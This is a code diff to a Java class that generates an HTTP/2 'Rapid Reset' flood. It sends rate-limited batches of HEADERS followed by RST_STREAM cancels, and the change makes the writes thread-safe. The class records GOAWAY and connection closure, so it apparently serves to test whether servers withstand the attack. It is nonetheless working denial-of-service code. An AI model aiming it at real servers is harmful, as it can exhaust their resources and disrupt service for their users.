@@ -76,28 +76,41 @@ final class RapidResetFlood implements AutoCloseable {
         Http2Headers headers = new DefaultHttp2Headers().method("POST").scheme("http").path(path).authority(host + ":" + port)
                 .add("content-type", "application/grpc").add("te", "trailers");
         ChannelHandlerContext ctx = channel.pipeline().firstContext();
-        channel.write(Unpooled.wrappedBuffer(Http2CodecUtil.connectionPrefaceBuf()));
-        writer.writeSettings(ctx, new Http2Settings(), channel.newPromise());
-        channel.flush();
+        // Every frame is written on the channel's event loop, where the SETTINGS ack is written too: the
+        // frame writer writes a frame as several buffers, and from another thread each buffer is a task of
+        // its own, so an ack could land inside a HEADERS frame and the server would rightly see garbage.
+        onLoop(channel, () -> {
+            ctx.write(Unpooled.wrappedBuffer(Http2CodecUtil.connectionPrefaceBuf()));
+            writer.writeSettings(ctx, new Http2Settings(), ctx.newPromise());
+            ctx.flush();
+        });
         int batch = (int) (pairsPerSecond * TICK_NANOS / TimeUnit.SECONDS.toNanos(1));
         long started = System.nanoTime();
         long next = started;
         int sent = 0;
-        int stream = 1;
         while (sent < maxPairs && !goAway.isDone() && channel.isActive()) {
             LockSupport.parkNanos(next - System.nanoTime());
             next += TICK_NANOS;
-            for (int i = 0; i < batch && sent < maxPairs; i++, sent++, stream += 2) {
-                writer.writeHeaders(ctx, stream, headers, 0, false, channel.newPromise());
-                writer.writeRstStream(ctx, stream, Http2Error.CANCEL.code(), channel.newPromise());
-            }
-            channel.writeAndFlush(Unpooled.EMPTY_BUFFER).await();
+            int first = 1 + 2 * sent;
+            int pairs = Math.min(batch, maxPairs - sent);
+            onLoop(channel, () -> {
+                for (int i = 0, stream = first; i < pairs; i++, stream += 2) {
+                    writer.writeHeaders(ctx, stream, headers, 0, false, ctx.newPromise());
+                    writer.writeRstStream(ctx, stream, Http2Error.CANCEL.code(), ctx.newPromise());
+                }
+                ctx.flush();
+            });
+            sent += pairs;
         }
         double seconds = (System.nanoTime() - started) / 1e9;
         GoAway away = goAwayOrNone();
         boolean closed = channel.closeFuture().await(10, TimeUnit.SECONDS);
         channel.close().await(5, TimeUnit.SECONDS);
         return new Result(away.error(), away.debug(), closed, sent, sent / seconds);
+    }
+
+    private static void onLoop(Channel channel, Runnable writes) throws Exception {
+        channel.eventLoop().submit(writes).get(10, TimeUnit.SECONDS);
     }
 
     private GoAway goAwayOrNone() throws InterruptedException {
